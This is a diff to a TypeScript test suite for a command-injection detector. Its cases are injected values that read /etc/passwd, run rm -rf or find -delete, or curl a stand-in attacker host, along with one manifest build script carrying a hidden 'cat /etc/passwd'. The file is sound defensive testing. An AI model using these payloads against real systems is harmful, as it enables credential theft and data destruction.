@@ -38,6 +38,7 @@ test('braces behind a separator are a command and its arguments, with nothing th
 
 test.each([
   '8.8.8.8; cat 1/2 /etc/passwd',
+  '8.8.8.8; more 1/2 /etc/passwd',
   '8.8.8.8; rm 24/7 -rf x',
   '8.8.8.8; curl ... http://evil.example/x',
   '8.8.8.8; find a/b -delete',
@@ -55,4 +56,24 @@ test.each([
 test('Windows asks for no small letters where nothing follows', () => {
   expect(isBlocked(commandInjection, '8.8.8.8&Dir')).toBe(true)
   expect(isBlocked(commandInjection, '8.8.8.8&Di')).toBe(false)
+})
+
+test("the scripts of a package's manifest are command lines, which read no secrets", () => {
+  const isBlockedAs = (text: string, name: string, parent: string) => {
+    let isBlocked = false
+    commandInjection.detect(text, { where: 'body', name, parent, isName: false }, (severity) => {
+      isBlocked ||= severity === 'critical'
+    })
+    return isBlocked
+  }
+  expect(isBlockedAs('tsc && cp -r wasm build/', 'build', 'scripts')).toBe(false)
+  expect(isBlockedAs('rm -rf dist && node build.js', 'build', 'scripts')).toBe(false)
+  expect(isBlockedAs('tsc && cp -r wasm build/', 'build', 'script')).toBe(true)
+  expect(isBlockedAs('tsc && cp -r wasm build/', 'scripts', 'scripts')).toBe(true)
+  expect(isBlockedAs('tsc; cat /etc/passwd', 'build', 'scripts')).toBe(true)
+})
+
+test('the end of an element behind a command is no file, unless the text has not opened it', () => {
+  expect(isBlocked(commandInjection, '<a>funds;cat</a>')).toBe(false)
+  expect(isBlocked(commandInjection, '8.8.8.8;cat</flag>')).toBe(true)
 })
